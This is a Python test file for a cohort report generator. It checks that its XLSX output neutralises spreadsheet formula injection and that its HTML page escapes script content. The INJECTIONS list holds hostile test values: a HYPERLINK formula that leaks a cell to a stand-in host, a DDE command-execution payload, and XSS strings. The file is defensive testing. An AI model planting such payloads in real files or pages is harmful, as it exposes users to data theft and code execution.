"""The cohort report: formula injection neutralised in the XLSX, everything escaped in the
HTML page, which opens in a real browser and shows every coalition."""

from __future__ import annotations

import re
import shutil
import subprocess

import pytest
from openpyxl import load_workbook

from deedgen.cohort_report import neutralize
from tests.batch.conftest import report, run_batch, sheet, write_cohort

INJECTIONS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"kliknij")',
    "+48 123 456 789",
    "-2+3",
    "@SUM(A1:A9)",
    '=cmd|"/c calc"!A1',
]
SCRIPT = '<script>alert("x")</script> & <img src=x onerror=alert(1)>'


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    root = tmp_path_factory.mktemp("report")
    sheets = {f"s{i}.yaml": sheet(i, coalition__name=text) for i, text in enumerate(INJECTIONS)}
    sheets["t.yaml"] = sheet(7, gmina__name=SCRIPT, coalition__name=SCRIPT)
    cohort = write_cohort(root / "kohorta", sheets)
    broken = cohort / "u-zepsuty.yaml"
    broken.write_text("coalition: [\n", encoding="utf-8")  # a failed row with an error message
    out = root / "out"
    code, _ = run_batch(cohort, "-o", out, "--format", "docx")
    assert code == 1
    return out, sheets


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\n=1"])
def test_neutralize(text):
    assert neutralize(text).startswith("'")


def test_neutralize_leaves_other_values():
    assert neutralize("Gmina Lipowiec") == "Gmina Lipowiec"
    assert neutralize(-5) == -5
    assert neutralize("a\x00b") == "ab"


def test_no_cell_of_the_xlsx_is_a_formula(built):
    out, _ = built
    book = load_workbook(out / "summary.xlsx")
    texts = []
    for sheet_ in book.worksheets:
        for row in sheet_.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (
                    f"{sheet_.title}!{cell.coordinate} is a formula: {cell.value!r}"
                )
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), (
                        cell.coordinate
                    )
                    texts.append(cell.value)
    for text in INJECTIONS:
        assert "'" + text in texts  # shown as text, with the apostrophe a spreadsheet hides


def test_json_keeps_the_text_as_is(built):
    out, sheets = built
    names = {row.get("coalition") for row in report(out)["rows"]}
    assert set(INJECTIONS) | {SCRIPT} <= names


def test_html_escapes_everything(built):
    out, _ = built
    page = (out / "summary.html").read_text(encoding="utf-8")
    assert "<script>alert" not in page and "<img" not in page
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in page
    assert re.search(r"<(link|img|iframe|object)\b", page) is None
    assert re.search(r"""(src|href)=["']?(https?:)?//""", page) is None  # no external assets
    assert "Content-Security-Policy" in page


def chromium() -> str | None:
    return (
        shutil.which("chromium")
        or shutil.which("chromium-browser")
        or shutil.which("google-chrome")
    )


@pytest.mark.skipif(
    chromium() is None, reason="Chromium is not installed (scripts/setup.sh installs it)"
)
def test_the_page_opens_in_chromium_and_shows_every_coalition(built, tmp_path):
    out, sheets = built
    command = [
        chromium(),
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--no-first-run",
        f"--user-data-dir={tmp_path / 'profile'}",
        "--virtual-time-budget=5000",
        "--dump-dom",
        (out / "summary.html").as_uri(),
    ]
    dom = subprocess.run(command, capture_output=True, text=True, timeout=120, check=True).stdout
    body = dom[dom.index("<tbody>") : dom.index("</tbody>")]
    rows = re.findall(r"<tr data-status=\"([a-z-]+)\"", body)
    assert len(rows) == len(sheets) + 1
    for data in sheets.values():
        assert data["gmina"]["terc"] in body
    assert "u-zepsuty.yaml" in body
    # the script ran: it filled in the count of rows shown
    assert re.search(rf'<span id="shown">{len(rows)} z {len(rows)}</span>', dom)
